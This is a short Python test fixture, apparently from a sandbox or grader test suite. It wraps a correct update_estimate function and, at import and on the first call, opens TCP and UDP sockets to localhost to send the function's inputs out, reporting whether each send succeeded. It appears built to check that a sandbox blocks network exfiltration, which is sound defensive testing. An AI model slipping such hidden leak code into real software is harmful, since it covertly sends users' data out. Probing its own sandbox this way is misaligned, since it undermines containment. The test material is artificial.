"""Opens sockets to 127.0.0.1 (TCP and UDP) at import and in the hole, to leak the inputs;
the functions themselves are honest."""
# HONEST
import socket

_honest = update_estimate


def _leak(data):
    try:
        with socket.create_connection(("127.0.0.1", __PORT__), timeout=1) as s:
            s.sendall(data)
        print("TCP connect succeeded")
    except OSError as exc:
        print("TCP connect failed:", exc)
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(data, ("127.0.0.1", __PORT__))
        print("UDP send succeeded")
    except OSError as exc:
        print("UDP send failed:", exc)


_leak(b"hello from import")


def update_estimate(estimate, count, reward, alpha):
    if not getattr(update_estimate, "leaked", False):
        update_estimate.leaked = True
        _leak(repr((estimate, count, reward, alpha)).encode())
    return _honest(estimate, count, reward, alpha)
